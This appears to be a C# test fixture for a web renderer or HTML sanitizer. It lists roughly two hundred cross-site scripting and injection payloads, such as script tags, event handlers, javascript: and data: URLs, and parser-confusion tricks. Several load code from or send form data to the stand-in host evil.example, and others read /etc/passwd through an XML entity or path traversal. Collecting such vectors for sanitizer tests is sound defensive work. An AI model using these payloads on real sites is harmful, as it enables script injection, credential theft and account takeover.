namespace Web.Tests.Rendering;

/// <summary>Ways to get a script, a style or a request into a page. Each that runs calls <c>pwn()</c>.</summary>
internal static class AttackVectors
{
    /// <summary>HTML as an author may write it.</summary>
    public static readonly string[] Html =
    [
        // Scripts, whole, cut and hidden
        "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT>", "<script/x>pwn()</script>", "<script\n>pwn()</script\n>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>pwn()</scr</script>ipt>",
        "<script>pwn()", "<script><!--\npwn()\n--></script>", "<<script>pwn()//<</script>", "<script\u0000>pwn()</script>", "<script type=module>pwn()</script>", "<svg><script>pwn()</script></svg>",
        "<svg><script href=data:,pwn() /></svg>", "<math><script>pwn()</script></math>", "<script>/*</script>*/pwn()</script>", "</p><script>pwn()</script><p>", "<b><script>pwn()</script></b>",
        // Events
        "<img src=x onerror=pwn()>", "<img src=x onerror='pwn()'", "<img src=\"x\" onerror=\"pwn()\"/>", "<img/src=x/onerror=pwn()>", "<img src=x oneRRor=pwn()>", "<img src=x onerror\n=\npwn()>",
        "<img src=x onerror=&#112;wn()>", "<img \u0000src=x onerror=pwn()>", "<img src='a'onerror=pwn()>", "<img src=x:x onerror=pwn()//", "<img alt=\"<img src=x onerror=pwn()>\" src=x>", "<img title='\"><img src=x onerror=pwn()>'>",
        "<body onload=pwn()>", "<svg onload=pwn()>", "<svg/onload=pwn()>", "<svg onload=pwn()//", "<details open ontoggle=pwn()>x</details>", "<details/open/ontoggle=pwn()>", "<p onmouseover=pwn()>x</p>",
        "<b onfocus=pwn() tabindex=0 autofocus>x</b>", "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>", "<textarea autofocus onfocus=pwn()>", "<video><source onerror=pwn()></video>",
        "<video src=x onerror=pwn()></video>", "<audio src=x onerror=pwn()></audio>", "<marquee onstart=pwn()>x</marquee>", "<div onpointerover=pwn()>x</div>", "<div onanimationstart=pwn() style=animation-name:x>x</div>",
        "<a onclick=pwn() href=#>x</a>", "<table onclick=pwn()><tr><td onmouseenter=pwn()>x</table>", "<time onbeforetoggle=pwn() datetime=2020>x</time>", "<x onclick=pwn()>x</x>", "<q/onmouseover=pwn()>x</q>",
        "<summary onclick=pwn()>x</summary>", "<img src=x onload=pwn() onerror=pwn()>", "<hr onmouseover=pwn()>", "<li onclick=pwn() value=3>x", "<col onclick=pwn()>",
        // Addresses
        "<a href=javascript:pwn()>x</a>", "<a href=\" javascript:pwn()\">x</a>", "<a href=JaVaScRiPt:pwn()>x</a>", "<a href=\"java\nscript:pwn()\">x</a>", "<a href=\"java\tscript:pwn()\">x</a>", "<a href=\"java&#10;script:pwn()\">x</a>",
        "<a href=\"java&Tab;script:pwn()\">x</a>", "<a href=\"javascript&colon;pwn()\">x</a>", "<a href=\"&#106;avascript:pwn()\">x</a>", "<a href=\"&#x6A&#x61vascript:pwn()\">x</a>", "<a href=\"\u0001javascript:pwn()\">x</a>",
        "<a href=\"\u00A0javascript:pwn()\">x</a>", "<a href=\"\u200Bjavascript:pwn()\">x</a>", "<a href=vbscript:pwn()>x</a>", "<a href=data:text/html,<script>pwn()</script>>x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=blob:x>x</a>", "<a href=filesystem:x>x</a>", "<a href=view-source:javascript:pwn()>x</a>", "<a href=feed:javascript:pwn()>x</a>", "<a href=livescript:pwn()>x</a>", "<a href=mhtml:x>x</a>", "<a xlink:href=javascript:pwn()>x</a>",
        "<a href=\"javascript:\u2028pwn()\">x</a>", "<a href=\"//evil.example\" target=_blank>x</a>", "<a ping=//evil.example href=#>x</a>", "<a href=# download=x.exe>x</a>", "<a href='javascript:pwn()' href='#'>x</a>",
        "<img src=javascript:pwn()>", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>\">", "<img src=//evil.example/beacon.gif>", "<img srcset=\"//evil.example/a 1x\">", "<img lowsrc=javascript:pwn()>", "<img dynsrc=javascript:pwn()>",
        "<img src=x usemap=#m><map name=m><area href=javascript:pwn() coords=0,0,9,9></map>", "<picture><source srcset=//evil.example/a></picture>", "<blockquote cite=javascript:pwn()>x</blockquote>", "<q cite=javascript:pwn()>x</q>",
        "<table background=javascript:pwn()><tr><td background=javascript:pwn()>x</table>", "<form action=javascript:pwn()><button>x</button></form>", "<form><button formaction=javascript:pwn()>x</button></form>", "<isindex action=javascript:pwn() type=image>",
        "<input type=image src=x formaction=javascript:pwn()>", "<form id=x></form><button form=x formaction=javascript:pwn()>x</button>", "<video poster=javascript:pwn()></video>",
        // What takes over the page
        "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">", "<meta http-equiv=refresh content=0;//evil.example>", "<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example>", "<link rel=preload as=script href=//evil.example>", "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example)}</style>", "<style><img src=x onerror=pwn()></style>",
        "<p style=\"background:url(javascript:pwn())\">x</p>", "<p style=\"width:expression(pwn())\">x</p>", "<p style=\"position:fixed;inset:0\">x</p>", "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
        "<iframe src=//evil.example>", "<object data=javascript:pwn()></object>", "<object type=text/html data=data:text/html,x></object>", "<embed src=javascript:pwn()>", "<applet code=x></applet>", "<frameset onload=pwn()><frame src=javascript:pwn()></frameset>",
        "<portal src=//evil.example></portal>", "<fencedframe src=//evil.example></fencedframe>", "<dialog open>x</dialog>", "<p popover id=p>x</p><button popovertarget=p>x</button>", "<form method=post action=//evil.example><input name=password></form>",
        "<?xml-stylesheet href=\"javascript:pwn()\"?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<![CDATA[<script>pwn()</script>]]>", "<!--[if IE]><script>pwn()</script><![endif]-->", "<!--><img src=x onerror=pwn()>-->",
        "<!--->pwn<img src=x onerror=pwn()>-->", "<!-- --!><img src=x onerror=pwn()> -->", "<comment><img src=x onerror=pwn()></comment>",
        // What one parser reads otherwise than another
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<template><img src=x onerror=pwn()></template>", "<template><script>pwn()</script></template>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwn()&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=pwn()>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=pwn()></annotation-xml></math>",
        "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>", "<svg><desc><img src=x onerror=pwn()></desc></svg>", "<svg><title><style><img src=x onerror=pwn()></style></title></svg>", "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
        "<svg><animate onbegin=pwn() attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:pwn()>", "<svg><use href=data:image/svg+xml,x#a></svg>", "<svg><image href=x onerror=pwn()></svg>", "<svg><style>{font-family:'<img/src=x onerror=pwn()>'",
        "<math href=javascript:pwn()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>", "<math><mi xlink:href=\"data:x,<script>pwn()</script>\">x</mi></math>", "<xmp><img src=x onerror=pwn()></xmp>", "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">",
        "<plaintext><img src=x onerror=pwn()>", "<noembed><img src=x onerror=pwn()></noembed>", "<noframes><p title=\"</noframes><img src=x onerror=pwn()>\">", "<listing>&lt;img src=x onerror=pwn()&gt;</listing>", "<textarea><p title=\"</textarea><img src=x onerror=pwn()>\">",
        "<title><p title=\"</title><img src=x onerror=pwn()>\">", "<select><template><style></select><img src=x onerror=pwn()>", "<select><style></select><script>pwn()</script>", "<table><td><style></table><img src=x onerror=pwn()>", "<iframe><p title=\"</iframe><img src=x onerror=pwn()>\">",
        "<b><p><b><table><td><b><a href=javascript:pwn()><table><a>x", "<a><table><a href=javascript:pwn()>x</table>", "<option><style></option></select><b><img src=x onerror=pwn()></style></option>", "<p id=\"a\" title='</p><script>pwn()</script>'>x", "<p title=`<img src=x onerror=pwn()>`>x",
        "<a title=\"x\"\"><img src=x onerror=pwn()>\">x</a>", "<a title=x'\"<>=`onclick=pwn() href=#>x</a>", "<img src=x a='>' onerror=pwn()>", "<img src=\"`><img src=x onerror=pwn()>\">", "<a\u000Bonclick=pwn()>x</a>", "<a\fonclick=pwn() href=#>x</a>", "<a/=\"x\"onclick=pwn() href=#>x</a>",
        // What takes names of the page
        "<img name=getElementById src=x>", "<form name=body><input name=innerHTML></form>", "<a id=page:search>x</a>", "<a id=PAGE:search name=cookie>x</a>", "<p id='x\" onclick=pwn()'>x</p>", "<p class='banner fixed'>x</p>", "<p slot=x is=x part=x exportparts=x>x</p>",
        "<p contenteditable>x</p>", "<p data-action=delete>x</p>", "<p role=alert aria-live=assertive>x</p>", "<p accesskey=x inert hidden>x</p>", "<p xml:base=javascript:pwn() xmlns:x=javascript:pwn()>x</p>", "<p itemprop=x itemscope itemtype=//evil.example>x</p>",
    ];

    /// <summary>Targets of links and images.</summary>
    public static readonly string[] Addresses =
    [
        "javascript:pwn()", "JAVASCRIPT:pwn()", "javascript://example.org/%0Apwn()", " javascript:pwn()", "java\tscript:pwn()", "\u0001javascript:pwn()", "\u200Bjavascript:pwn()", "&#106;avascript:pwn()", "javascript&#58;pwn()", "javascript&colon;pwn()",
        "vbscript:pwn()", "data:text/html,<script>pwn()</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=pwn()>", "file:///etc/passwd", "blob:https://example.org/x", "about:blank", "ftp://example.org", "x-custom:do", "intent://x#Intent;end",
        "jar:javascript:pwn()!/x", "view-source:x", "ms-word:ofe|u|x", "\"onmouseover=\"pwn()", "'onmouseover='pwn()", "x\"><script>pwn()</script>", "#\"onclick=\"pwn()", "../../../etc/passwd", "..%2f..%2f..%2fetc/passwd", "javascript:pwn()//https://example.org",
        "javascript\u00AD:pwn()", "java\u0000script:pwn()", "\\\\evil.example\\x", "https:javascript:pwn()",
    ];
}
